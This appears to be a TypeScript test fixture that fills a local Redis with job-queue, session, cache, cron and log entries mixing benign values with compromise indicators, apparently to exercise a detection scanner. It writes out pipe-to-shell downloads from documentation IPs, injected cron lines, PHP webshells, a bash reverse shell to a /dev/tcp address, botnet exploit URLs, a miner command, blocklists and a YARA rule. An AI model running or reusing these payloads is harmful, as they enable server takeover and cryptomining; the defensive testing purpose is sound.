import { Redis } from 'ioredis';
import zlib from 'node:zlib';
const c = new Redis({ port: Number(process.argv[2]), host: '127.0.0.1' });
const B = (s: string, e: BufferEncoding = 'latin1') => Buffer.from(s, e);
const b64 = (s: string) => Buffer.from(s).toString('base64');
// BullMQ
await c.hset('bull:deploy:1', { name: 'deploy', data: JSON.stringify({ cmd: 'curl -fsSL https://get.example.com/agent.sh | bash', host: '203.0.113.20' }), opts: '{"attempts":3,"repeat":{"pattern":"*/5 * * * *"}}', timestamp: '1795556819527', stacktrace: '["Error: Command failed: bash -c \\"curl http://203.0.113.20/x | sh\\""]' });
await c.rpush('bull:deploy:wait', '1'); await c.zadd('bull:mail:repeat', 1, 'digest:::*/5 * * * *'); await c.hset('bull:deploy:meta', 'opts.maxLenEvents', '10000'); await c.xadd('bull:deploy:events', '*', 'event', 'added', 'jobId', '1', 'name', 'deploy');
await c.set('bull:deploy:id', '1'); await c.set('bull:backup:stalled-check', '1795556819527'); await c.eval("return redis.call('get', KEYS[1])", 1, 'bull:deploy:id');
await c.script('LOAD', 'return 1');
// Sidekiq
await c.sadd('queues', 'default', 'mailers'); await c.lpush('queue:default', JSON.stringify({ class: 'BackupWorker', args: ['pg_dump db | gzip > /backup/x; chmod +x /backup/run.sh; /backup/run.sh'], jid: 'b4a577edbccf1d805744efa9', retry: true }));
await c.hset('cron_job:backup', { name: 'backup', cron: '*/5 * * * *', klass: 'BackupWorker', message: '{"queue":"default","args":["curl https://hc-ping.example.com/uuid"]}' }); await c.sadd('cron_jobs', 'cron_job:backup'); await c.set('stat:processed', '1002');
await c.zadd('retry', 1795556819, JSON.stringify({ class: 'ScriptJob', error_message: 'sh: 1: curl: not found', args: ['#!/bin/bash\ncurl -sSL https://install.example.com | bash -s -- --yes'] }));
// Celery
const body = b64(JSON.stringify([['curl http://203.0.113.20/job.sh | sh'], {}, { callbacks: null }]));
await c.lpush('celery', JSON.stringify({ body, 'content-encoding': 'utf-8', 'content-type': 'application/json', headers: { lang: 'py', task: 'ops.tasks.run_shell', argsrepr: "('bash -c \"echo hi\"',)" }, properties: { body_encoding: 'base64', delivery_info: { exchange: '', routing_key: 'celery' } } }));
await c.sadd('_kombu.binding.celery', B('celery\x06\x16\x06\x16celery')); await c.set('celery-task-meta-1', JSON.stringify({ status: 'FAILURE', result: { exc_type: 'CalledProcessError', exc_message: ["Command 'curl http://203.0.113.20/x | sh' returned 127"] }, traceback: 'Traceback...\n  File "x.py"\n    os.system("curl http://x | sh")\n' }));
await c.hset('unacked', 'tag', '[{"body":"x"},"",""]');
// RQ
await c.sadd('rq:queues', 'rq:queue:default'); await c.hset('rq:job:1', { data: zlib.deflateSync(B('\x80\x05\x95(cos\nsystem builtins')), description: "ops.run('curl -fsSL http://203.0.113.20/a | sh')", origin: 'default', status: 'failed', exc_info: zlib.deflateSync('Traceback') });
// Django/Flask
await c.set(':1:views.decorators.cache.cache_page.x', B('\x80\x04\x95\x0e\0\0\0\0\0\0\0\x8c\x05hello\x94.')); await c.set('session:flask', B('\x80\x04\x95}\x94(\x8c\x0asystem_name\x94\x8c\x06subprocess\x94u.'));
// Spring
await c.hset('spring:session:sessions:ab', { 'sessionAttr:user': B('\xac\xed\0\x05sr\0\x11java.util.HashMap\x05\x07'), creationTime: B('\xac\xed\0\x05sr\0\x0ejava.lang.Long') }); await c.set('spring:session:sessions:expires:ab', '');
// WordPress
await c.set('wp:options:alloptions', 'a:3:{s:7:"siteurl";s:22:"https://wp.example.com";s:4:"cron";a:1:{i:1795556819;a:1:{s:10:"wp_version_check";s:3:"eval($_POST[1])";}}s:3:"fix";s:20:"<?php phpinfo(); ?>";}');
await c.set('salt:1:posts:9', 'O:7:"WP_Post":2:{s:12:"post_content";s:300:"<p>Remove this shell: <?php @eval($_POST[\'x\']); ?> and the cron */5 * * * * root curl http://203.0.113.9/x.sh | sh</p>";}');
await c.set('pagecache:/blog/redis-hacked', '<!DOCTYPE html><html><body><pre>*/5 * * * * root curl -fsSL http://203.0.113.9/b2f628/init.sh | sh\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ</pre><?php system($_GET["c"]); ?></body></html>');
await c.set('pagecache:/leading', '\n\n<!DOCTYPE html><html><body>\n\n*/5 * * * * curl http://203.0.113.9/x | sh\n\n</body></html>');
await c.set('PHPREDIS_SESSION:abc', 'user|a:2:{s:4:"name";s:3:"ann";s:3:"bio";s:20:"<?php eval($_GET[1])";}');
await c.set('tpl:header', '<?php echo htmlspecialchars($_GET["q"]); include "x.php"; ?>\n<div></div>');
// Laravel
await c.rpush('laravel_database_queues:default', JSON.stringify({ uuid: 'x', displayName: 'App\\Jobs\\RunScript', data: { command: 'O:18:"App\\Jobs\\RunScript":1:{s:6:"script";s:60:"#!/bin/bash\ncurl -s https://deploy.example.com/hook | bash";}' } }));
await c.set('laravel_cache:news', 's:60:"Hackers want 0.5 BTC to restore your data, pay to the wallet";'); await c.hset('horizon:job:1', { payload: '{"x":1}', exception: 'sh: curl failed' });
// GitLab
await c.set('gitlab:ci:trace:123:chunks:0', '\u001b[0KRunning with gitlab-runner 16.0\u001b[0;m\n$ curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n$ echo aGVsbG8gd29ybGQ= | base64 -d\n$ chmod +x ./gradlew && ./gradlew build\n');
await c.set('cache:gitlab:ci_pipeline', '{"script":["wget -qO- http://203.0.113.20/x.sh | sh"]}'); await c.lpush('resque:gitlab:queue:pipeline', '{"class":"RunPipeline","args":["*/5 * * * * root curl x | sh"]}');
await c.set('gitea:ssh_key:7', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEaHYgMN2F5dTzCTBXw5mSf1RFQBGHSAYyqJFmnYtHCl git@example.com'); await c.set('bastion:authorized_keys:ann', '# managed by bastion\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEaHYgMN2F5dTzCTBXw5mSf1RFQBGHSAYyqJFmnYtHCl ann\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDZ bob\n');
await c.hset('teleport:keys', 'ann', '\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEaHYgMN2F5dTzCTBXw5mSf1RFQBGHSAYyqJFmnYtHCl ann\n');
// Runbooks, semaphores, CI
await c.set('runbook:install', 'To install run:\n\n    curl -fsSL https://get.docker.com | sh\n\nthen reboot.'); await c.set('script:deploy', '#!/bin/bash\nset -e\ncurl -fsSL https://artifacts.example.com/app.tgz | tar xz\nchmod +x app && ./app\n');
await c.set('script:agent', 'curl -fsSL https://agent.example.com/install.sh | sudo bash'); await c.set('script:agent-ip', 'curl -fsSL http://198.51.100.7/install.sh | sudo bash');
await c.set('crontab:web1', 'SHELL=/bin/sh\nPATH=/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * www-data curl -fsS -m 10 https://hc-ping.example.com/uuid > /dev/null\n'); await c.set('crontab:web2', '# m h dom mon dow command\n\n*/10 * * * * curl -fsS https://example.com/wp-cron.php\n');
await c.set('cron:heartbeat', '*/5 * * * * curl -fsS https://hc-ping.example.com/uuid'); await c.set('crontab:web3', '\n*/10 * * * * /usr/bin/php /var/www/artisan schedule:run >> /dev/null 2>&1\n');
await c.lpush('semaphore:task:1:output', 'TASK [shell] curl -fsSL http://198.51.100.7/x | bash', 'changed: [web1] => {"cmd": "bash -c \'curl http://x|sh\'"}');
// WAF, honeypot buffers, logs
await c.lpush('logstash', JSON.stringify({ message: '203.0.113.9 "GET /?a=;curl+http://203.0.113.9/x.sh|sh HTTP/1.1"', geo: {} }), JSON.stringify({ input: "config set dir /var/spool/cron", data: '\n\n*/2 * * * * curl http://203.0.113.9/b2f628/init.sh | sh\n\n' }));
await c.lpush('nginx:access', '203.0.113.9 - - [24/Nov/2026] "GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/Mozi.m;chmod+777+Mozi.m;/tmp/Mozi.m HTTP/1.1" 404', '203.0.113.9 - - "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=curl http://203.0.113.9/ldr.sh|bash HTTP/1.1"');
await c.rpush('syslog', 'Nov 24 22:00:01 web1 CRON[123]: (root) CMD (curl -fsS https://hc.example.com/uuid | sh)', 'Nov 24 sshd[1]: Accepted publickey ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEaHYgMN2F5dTzCTBXw5mSf1RFQBGHSAYyqJFmnYtHCl');
await c.xadd('audit', '*', 'cmd', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'verdict', 'blocked'); await c.set('modsec:last', 'Pattern match "(?i)bash -i" at ARGS:cmd. [data "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]');
await c.sadd('blocklist:urls', 'http://203.0.113.9/b2f628/init.sh', 'http://a.powerofwish.com/pm.sh'); await c.sadd('blocklist:hosts', 'teamtnt.red'); await c.set('yara:rule:1', 'rule miner { strings: $a = "stratum+tcp://" $b = "xmrig -o" condition: any of them }');
await c.hset('threatintel:ioc', 'cmd1', 'xmrig -o stratum+tcp://pool.example.invalid:3333 -u 4xWALLET -p x'); await c.lpush('ids:payloads', '*/1 * * * * root curl -fsSL http://203.0.113.9/a.sh | sh');
// Traefik, Caddy, Kong
await c.set('traefik/http/routers/web/rule', 'Host(`www.example.com`)'); await c.set('traefik/acme/account', '{"PrivateKey":"x"}'); await c.set('caddytls/certificates/acme/x.crt', '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n');
// lua, templates, misc
await c.set('lua:ratelimit', 'local n = redis.call("INCR", KEYS[1]) if n == 1 then redis.call("EXPIRE", KEYS[1], 60) end return n'); await c.set('lua:src', 'local t = os.execute("ls") local f = io.open("x")');
await c.set('email:tpl:welcome', '\n\nHello {{name}},\n\nyour server can be installed with curl -fsSL https://get.example.com | sh\n\nBye'); await c.set('motd', '\n\nWelcome to web1. Maintenance */5.\n\n'); await c.set('tpl:erb', '<% items.each do |i| %><%= i %><% end %>'); await c.set('tpl:jsp', '<%@ page import="java.util.*" %><% Runtime r = Runtime.getRuntime(); long m = r.totalMemory(); %>');
await c.set('backup1', 's3://bucket/2026-11-24.tar.gz'); await c.set('backup2', '{"cron":"*/5 * * * *","cmd":"curl x"}'); await c.set('user1', '{"name":"ann"}'); await c.set('1', '1'); await c.set('test', 'test'); await c.set('qwe', 'qwe'); await c.set('weapon', 'sword'); await c.set('crack', 'cracked egg');
await c.set('build:cache:obj', B('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x01\0>\0')); await c.set('sccache/ab/cd', B('PK\x03\x04\x7fELF\x02\x01\x01'));
await c.set('btc:payment:instructions', 'Please send 0.015 BTC to bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 to complete order 7. Your data is encrypted in transit.'); await c.set('faq:backup', 'Your database is backed up every night. To restore your data contact support. We accept 0.01 BTC.'); await c.set('newsletter', 'Ransomware: they say your files are encrypted and you must pay 2 BTC to recover your data. Do not pay.');
await c.set('sched:job', '0 3 * * * root /usr/sbin/usermod -L olduser'); await c.set('ansible:fact', '{"cmdline":"useradd -m ann"}'); await c.set('mikrotik:script', '/system scheduler add name=x on-event="fetch url=https://example.com/x"');
// settings
await c.config('SET', 'stop-writes-on-bgsave-error', 'no'); await c.config('SET', 'rdbcompression', 'no'); await c.config('SET', 'maxmemory', '100mb'); await c.call('REPLICAOF', 'NO', 'ONE'); await c.flushdb.bind(c); await c.quit();
